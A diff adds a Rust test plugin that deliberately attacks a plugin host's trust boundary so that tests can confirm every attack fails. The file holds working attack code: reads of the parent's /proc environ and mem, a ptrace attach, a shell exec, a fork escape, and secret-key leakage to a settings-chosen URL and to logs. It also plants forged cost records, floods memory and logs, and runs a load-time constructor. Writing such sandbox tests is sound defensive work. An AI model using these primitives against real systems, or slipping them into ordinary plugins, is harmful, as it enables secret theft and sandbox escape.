@@ -1,0 +1,256 @@
+//! A hostile plugin, built against `plugin-api` 1.0 like any third-party
+//! plugin, that tries every attack on the kernel the trust-boundary tests
+//! name. Each attack reports what it achieved in a `probe` record (or in its
+//! log), so a test can assert it achieved nothing.
+//!
+//! `--param attack=…` (or the `HOSTILE_ATTACK` setting, for `run-all`): `env`, `proc`, `read` (the file in `target`),
+//! `write` (a file at `target`), `socket` (TCP to 127.0.0.1:`port`),
+//! `exec`, `grandchild`, `settings`, `redirect` (GET `HOSTILE_BASE_URL` +
+//! `target` with its key), `foreign-rows`, `overflow` (two amounts of its
+//! own whose day sum overflows), `flood` (`count` log lines and
+//! one long line), `huge` (`count` records of 64 KiB), `memory`, `leak`
+//! (logs and returns its own key).
+//!
+//! Its manifest function misbehaves when the bytes after
+//! `HOSTILE-MANIFEST-MODE:` in the file are patched to `segv`, `abort`,
+//! `hang` or `panic`; its ELF constructor creates the file named by
+//! `HOSTILE_CTOR_MARKER` if that variable is visible to it.
+
+use std::io::{Read, Write};
+
+use plugin_api::{
+    HttpRequest, Manifest, ParamSpec, PluginCtx, PluginResult, Record, RunMetadata, RunRequest,
+};
+
+/// Patched by tests (same length) to choose how `manifest()` misbehaves.
+#[used]
+static MANIFEST_MODE: [u8; 32] = *b"HOSTILE-MANIFEST-MODE:normal____";
+
+fn manifest_mode() -> String {
+    // Read through a volatile pointer so the compiler keeps the bytes in
+    // the file, where a test can patch them.
+    let bytes: [u8; 32] = unsafe { std::ptr::read_volatile(&MANIFEST_MODE) };
+    String::from_utf8_lossy(&bytes[22..]).trim_end_matches('_').to_string()
+}
+
+/// Runs when the library is mapped, in whatever process maps it.
+extern "C" fn constructor() {
+    if let Some(path) = std::env::var_os("HOSTILE_CTOR_MARKER") {
+        let _ = std::fs::write(path, b"constructor ran here");
+    }
+}
+
+#[used]
+#[link_section = ".init_array"]
+static CONSTRUCTOR: extern "C" fn() = constructor;
+
+fn manifest() -> Manifest {
+    match manifest_mode().as_str() {
+        // SAFETY: none; the point is to crash the process.
+        "segv" => unsafe { std::ptr::null_mut::<u64>().write_volatile(1) },
+        "abort" => std::process::abort(),
+        "hang" => loop {
+            std::thread::sleep(std::time::Duration::from_secs(1));
+        },
+        "panic" => panic!("manifest panicked on purpose"),
+        _ => {}
+    }
+    let param =
+        |name: &str| ParamSpec { name: name.into(), description: String::new(), default: None };
+    Manifest {
+        name: "hostile".into(),
+        version: env!("CARGO_PKG_VERSION").into(),
+        description: "tries every attack on the kernel (trust-boundary tests)".into(),
+        secrets: vec!["HOSTILE_KEY".into()],
+        // Asks for an admin key and a webhook as if they were plain settings.
+        settings: vec![
+            "HOSTILE_BASE_URL".into(),
+            "OPENAI_ADMIN_KEY".into(),
+            "DISCORD_WEBHOOK_URL".into(),
+            "HOSTILE_NOTE".into(),
+            "HOSTILE_ATTACK".into(),
+        ],
+        requires_one_of: vec![],
+        hosts: vec![],
+        params: vec![param("attack"), param("target"), param("port"), param("count")],
+        daily: true,
+        read_paths: vec![],
+        providers: vec!["hostile".into()],
+    }
+}
+
+fn probe(attack: &str, outcome: String) -> PluginResult {
+    let payload = serde_json::json!({ "attack": attack, "outcome": outcome }).to_string();
+    PluginResult::success(vec![Record::new("probe", attack, payload)], &RunMetadata::default())
+}
+
+fn read_file(path: &str) -> String {
+    match std::fs::File::open(path) {
+        Ok(mut f) => {
+            let mut buf = Vec::new();
+            match f.read_to_end(&mut buf) {
+                Ok(n) => format!("READ {n} bytes of {path}"),
+                Err(e) => format!("opened {path} but reading failed: {e}"),
+            }
+        }
+        Err(e) => format!("denied {path}: {e}"),
+    }
+}
+
+fn run(ctx: &PluginCtx<'_>, req: RunRequest) -> PluginResult {
+    let p = |name: &str| req.params.get(name).cloned().unwrap_or_default();
+    let attack = req
+        .params
+        .get("attack")
+        .or(req.settings.get("HOSTILE_ATTACK"))
+        .cloned()
+        .unwrap_or_default();
+    let count: usize = p("count").parse().unwrap_or(1000);
+    match attack.as_str() {
+        "env" => {
+            let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
+            let cwd = std::env::current_dir().map(|d| d.display().to_string()).unwrap_or_default();
+            let listing: Vec<String> = std::fs::read_dir(".")
+                .map(|d| {
+                    d.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect()
+                })
+                .unwrap_or_default();
+            probe(
+                &attack,
+                format!("vars=[{}] cwd={cwd} files=[{}]", vars.join(","), listing.join(",")),
+            )
+        }
+        "proc" => {
+            let parent = std::os::unix::process::parent_id();
+            let mut outcomes = vec![
+                read_file(&format!("/proc/{parent}/environ")),
+                read_file(&format!("/proc/{parent}/mem")),
+                read_file(&format!("/proc/{parent}/cmdline")),
+                read_file("/proc/self/environ"),
+            ];
+            // SAFETY: plain syscalls with integer arguments.
+            let traced = unsafe { libc::ptrace(libc::PTRACE_ATTACH, parent as i32, 0, 0) };
+            outcomes.push(if traced == 0 {
+                "PTRACE ATTACHED to the host".into()
+            } else {
+                format!("ptrace denied: {}", std::io::Error::last_os_error())
+            });
+            probe(&attack, outcomes.join("; "))
+        }
+        "read" => probe(&attack, read_file(&p("target"))),
+        "write" => {
+            let target = p("target");
+            let outcome = match std::fs::write(&target, b"planted by a plugin") {
+                Ok(()) => format!("WROTE {target}"),
+                Err(e) => format!("denied {target}: {e}"),
+            };
+            probe(&attack, outcome)
+        }
+        "socket" => {
+            let addr = format!("127.0.0.1:{}", p("port"));
+            let outcome = match std::net::TcpStream::connect(&addr) {
+                Ok(mut s) => {
+                    let _ = s.write_all(b"exfiltrated");
+                    format!("CONNECTED to {addr}")
+                }
+                Err(e) => format!("denied {addr}: {e}"),
+            };
+            probe(&attack, outcome)
+        }
+        "exec" => {
+            let outcome = match std::process::Command::new("/bin/sh").arg("-c").arg("true").status()
+            {
+                Ok(s) => format!("EXECUTED /bin/sh: {s}"),
+                Err(e) => format!("denied exec: {e}"),
+            };
+            probe(&attack, outcome)
+        }
+        "grandchild" => {
+            // SAFETY: fork in a plugin, on purpose: the child holds the
+            // worker's pipes and outlives it if the kernel lets it.
+            let pid = unsafe { libc::fork() };
+            if pid == 0 {
+                std::thread::sleep(std::time::Duration::from_secs(60));
+                // SAFETY: leave without running the parent's destructors.
+                unsafe { libc::_exit(0) };
+            }
+            let outcome = if pid > 0 {
+                format!("FORKED grandchild {pid}")
+            } else {
+                format!("denied fork: {}", std::io::Error::last_os_error())
+            };
+            probe(&attack, outcome)
+        }
+        "settings" => {
+            let given: Vec<String> = req.settings.iter().map(|(k, v)| format!("{k}={v}")).collect();
+            probe(&attack, format!("settings=[{}]", given.join(",")))
+        }
+        "redirect" => {
+            let key = ctx.secret("HOSTILE_KEY").unwrap_or_default();
+            let base = req.settings.get("HOSTILE_BASE_URL").cloned().unwrap_or_default();
+            let request = HttpRequest::get(&format!("{base}{}", p("target")))
+                .header("x-api-key", &key)
+                .header("Authorization", &format!("Bearer {key}"));
+            let outcome = match ctx.http(&request) {
+                Ok(r) => format!("HTTP {}: {}", r.status, r.text()),
+                Err(e) => format!("error: {e}"),
+            };
+            probe(&attack, outcome)
+        }
+        "foreign-rows" | "overflow" => {
+            let day = req.from.clone().unwrap_or_default();
+            let (provider, amount) = if attack == "overflow" {
+                ("hostile", "79228162514264337593543950335")
+            } else {
+                ("openai", "1000000.00")
+            };
+            let cost = |item: &str| {
+                let payload = serde_json::json!({
+                    "provider": provider, "account": "default", "day": day, "amount": amount,
+                    "unit": "major", "currency": "usd", "line_item": item,
+                });
+                Record::new("cost", "", payload.to_string())
+            };
+            PluginResult::success(
+                vec![cost("planted-1"), cost("planted-2")],
+                &RunMetadata::default(),
+            )
+        }
+        "flood" => {
+            for i in 0..count {
+                ctx.info(&format!("flood line {i}"));
+            }
+            ctx.info(&"x".repeat(100_000));
+            probe(&attack, format!("sent {count} lines"))
+        }
+        "huge" => {
+            let blob = "y".repeat(64 << 10);
+            let records = (0..count)
+                .map(|i| {
+                    Record::new(
+                        "blob",
+                        &i.to_string(),
+                        serde_json::json!({ "b": blob }).to_string(),
+                    )
+                })
+                .collect();
+            PluginResult::success(records, &RunMetadata::default())
+        }
+        "memory" => {
+            let mut hog: Vec<Vec<u8>> = Vec::new();
+            for _ in 0..64 {
+                hog.push(vec![1u8; 256 << 20]);
+            }
+            probe(&attack, format!("ALLOCATED {} MiB", hog.len() * 256))
+        }
+        "leak" => {
+            let key = ctx.secret("HOSTILE_KEY").unwrap_or_default();
+            ctx.warn(&format!("my key is {key}"));
+            let note = req.settings.get("HOSTILE_NOTE").cloned().unwrap_or_default();
+            probe(&attack, format!("key={key} note={note}"))
+        }
+        other => PluginResult::failed(format!("unknown attack {other:?}")),
+    }
+}
+
+plugin_api::export_plugin! { manifest: manifest, run: run }
